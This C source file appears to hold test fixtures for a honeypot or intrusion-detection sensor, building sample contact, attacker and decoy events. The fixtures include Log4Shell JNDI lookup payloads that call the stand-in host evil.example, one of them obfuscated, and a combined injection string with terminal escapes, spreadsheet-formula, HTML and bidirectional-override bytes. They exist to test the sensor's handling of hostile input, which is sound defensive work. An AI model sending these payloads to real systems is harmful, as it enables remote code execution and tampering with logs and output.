#include "contact_samples.h"

#define S(z) CT_STR(z)
#define HOSTILE "x\0\x1b[2J\r\n,\"=1+1<b>\xff\xe2\x80\xae\xc2\x9b" "${jndi:ldap://evil.example/a}](http://evil.example){0}"

static const struct ct_attempt_indicator callbacks[] = {
    {CT_STR_INIT("ldap"), CT_STR_INIT("evil.example"), CT_STR_INIT("/a?token=hunter2"), 1389},
    {CT_STR_INIT("rmi"), CT_STR_INIT("10.6.6.6"), CT_STR_INIT(""), 0},
};
static const struct ct_attempt_indicator hostile_callbacks[] = {{CT_STR_INIT(HOSTILE), CT_STR_INIT(HOSTILE), CT_STR_INIT(HOSTILE), 1}};
static const struct ct_attempt_fires fires[] = {{CT_STR_INIT("2.0-beta9-2.14.1"), "message", ""}};
static const struct ct_contact_login logins[] = {
    {CT_STR_INIT("root"), CT_STR_INIT("0123456789abcdef0123456789abcdef"), false},
    {CT_STR_INIT("root"), CT_STR_INIT("1123456789abcdef0123456789abcdef"), false},
    {CT_STR_INIT("admin"), CT_STR_INIT(""), false},
};
static const struct ct_contact_login hostile_logins[] = {{CT_STR_INIT(HOSTILE), CT_STR_INIT(HOSTILE), true}};
static const struct ct_contact_said said[] = {
    {"http.request.method", CT_STR_INIT("GET")},
    {"url.original", CT_STR_INIT("/login?password=hunter2&x=1")},
    {"user_agent.original", CT_STR_INIT("curl/7.88.1")},
    {"destination.domain", CT_STR_INIT("intranet:8080")},
    {"user.domain", CT_STR_INIT("CORP")},
    {"source.domain", CT_STR_INIT("WS-17")},
    {"tls.client.ja4", CT_STR_INIT("t12d190800_d83cc789557e_7af1ed941c26")},
    {"tls.client.server_name", CT_STR_INIT("intranet")},
    {"caltrop.command", CT_STR_INIT("SYST")},
    {"caltrop.command", CT_STR_INIT("CONFIG GET *")},
    {"caltrop.hassh", CT_STR_INIT("ec7378c1a92f5a8dde7e8b7a1ddf33d1")},
};
static const struct ct_contact_said hostile_said[] = {
    {"url.original", CT_STR_INIT(HOSTILE)},       {"user_agent.original", CT_STR_INIT(HOSTILE)}, {"source.domain", CT_STR_INIT(HOSTILE)},
    {"tls.client.ja4", CT_STR_INIT(HOSTILE)},     {"user.domain", CT_STR_INIT(HOSTILE)},         {"caltrop.command", CT_STR_INIT(HOSTILE)},
    {"http.request.method", CT_STR_INIT(HOSTILE)}, {"destination.domain", CT_STR_INIT(HOSTILE)},
};
static const struct ct_port_range tcp[] = {{22, 22}, {80, 81}, {8000, 65535}}, udp[] = {{53, 53}};
static const ct_str crowd[] = {CT_STR_INIT("10.0.0.1"), CT_STR_INIT("fd00::1")};

static const struct ct_contact_payload full_payload = {
    .grade = "exploit", .certainty = "certain", .field = CT_STR_INIT("user_agent.original"), .normal = CT_STR_INIT("${jndi:ldap://evil.example:1389/a}"),
    .raw = CT_STR_INIT("${${lower:j}ndi:ldap://evil.example:1389/a}"), .indicators = callbacks, .n_indicators = 2, .fires = fires, .n_fires = 1, .calls = 1};
static const struct ct_contact_payload hostile_payload = {
    .grade = "reach", .certainty = "unknown", .field = CT_STR_INIT(HOSTILE), .normal = CT_STR_INIT(HOSTILE), .raw = CT_STR_INIT(HOSTILE),
    .indicators = hostile_callbacks, .n_indicators = 1};

struct ct_contact_event contact_sample(size_t i)
{
    struct ct_contact_event c = {.id = {1, 2, 3}, .time_us = INT64_C(1764100800000000), .opened_us = INT64_C(1764100799500000), .sensor = S("web1.corp.example"),
                                 .source = S("10.0.0.7"), .dest = S("10.9.9.9"), .source_port = 50000, .dest_port = 8080, .transport = "tcp",
                                 .technique = "connect", .bytes_in = 100, .bytes_out = 2000, .masked = true};
    c.id[15] = (unsigned char)i;
    switch (i) {
    case 0: /* everything */
        c.actor[0] = 7;
        c.face = "http";
        c.session = 12;
        c.answered = c.more = true;
        c.said = said;
        c.n_said = sizeof said / sizeof *said;
        c.logins = logins;
        c.n_logins = 3;
        c.payload = full_payload;
        break;
    case 1: /* background */
        c.source = S("fe80::1%3");
        c.background = "learned";
        break;
    case 2: c = (struct ct_contact_event){.time_us = INT64_MIN, .transport = "udp", .technique = "udp"}; break;
    default:
        c.sensor = c.source = c.dest = S(HOSTILE);
        c.said = hostile_said;
        c.n_said = sizeof hostile_said / sizeof *hostile_said;
        c.logins = hostile_logins;
        c.n_logins = 1;
        c.payload = hostile_payload;
    }
    return c;
}

struct ct_actor_event actor_sample(size_t i)
{
    struct ct_actor_event a = {.id = {9}, .actor = {7}, .sequence = i + 1, .time_us = INT64_C(1764100800000000), .first_us = INT64_C(1764100700000000),
                               .last_us = INT64_C(1764100799000000), .sensor = S("web1.corp.example"), .source = S("10.0.0.7"), .dest = S("10.9.9.9"),
                               .dest_port = 22, .transport = "tcp", .touches = 1, .rate_peak = 1, .n_sources = 1, .masked = true};
    a.id[15] = (unsigned char)i;
    switch (i) {
    case 0: /* a sweep */
        a.tcp = (struct ct_actor_ports){57539, tcp, 3, false};
        a.udp = (struct ct_actor_ports){1, udp, 1, true};
        a.opened = (struct ct_actor_ports){1, tcp, 1, false};
        a.touches = 70000;
        a.techniques[0] = "syn";
        a.techniques[1] = "ping";
        a.n_techniques = 2;
        break;
    case 1: /* everything */
        a = actor_sample(0);
        a.id[15] = 1;
        a.news = CT_ACTOR_ROSE;
        a.faces[0] = "http";
        a.faces[1] = "ssh";
        a.n_faces = 2;
        a.logins = logins;
        a.n_logins = 3;
        a.logins_tried = 5000;
        a.secrets_distinct = 256;
        a.users_distinct = 4;
        a.distinct_at_least = true;
        a.said = said;
        a.n_said = sizeof said / sizeof *said;
        a.payload = full_payload;
        a.payloads = 3;
        break;
    case 2: /* a ping, and that was it */
        a.news = CT_ACTOR_ENDED;
        a.dest_port = 0;
        a.transport = "icmp";
        a.techniques[0] = "ping";
        a.n_techniques = 1;
        break;
    case 3: /* many sources */
        a.crowd = a.evicted = true;
        a.news = CT_ACTOR_ENDED;
        a.sources = crowd;
        a.n_sources_shown = 2;
        a.n_sources = 40000;
        a.tcp = (struct ct_actor_ports){1, tcp, 1, false};
        break;
    default:
        a.sensor = a.source = a.dest = S(HOSTILE);
        a.logins = hostile_logins;
        a.n_logins = 1;
        a.logins_tried = a.users_distinct = 1;
        a.said = hostile_said;
        a.n_said = sizeof hostile_said / sizeof *hostile_said;
        a.payload = hostile_payload;
        a.payloads = 1;
    }
    return a;
}

struct ct_decoy_event decoy_sample(bool deaf)
{
    static const ct_str reasons[] = {CT_STR_INIT("INPUT drops what is diverted"), CT_STR_INIT(HOSTILE)};
    return (struct ct_decoy_event){.id = {5}, .time_us = INT64_C(1764100800000000), .sensor = S("web1"), .state = deaf ? "deaf" : "alive",
                                   .reasons = reasons, .n_reasons = deaf ? 2 : 0, .probed_us = deaf ? INT64_MIN : INT64_C(1764100800000000),
                                   .contacts = 5, .touches = 70000};
}
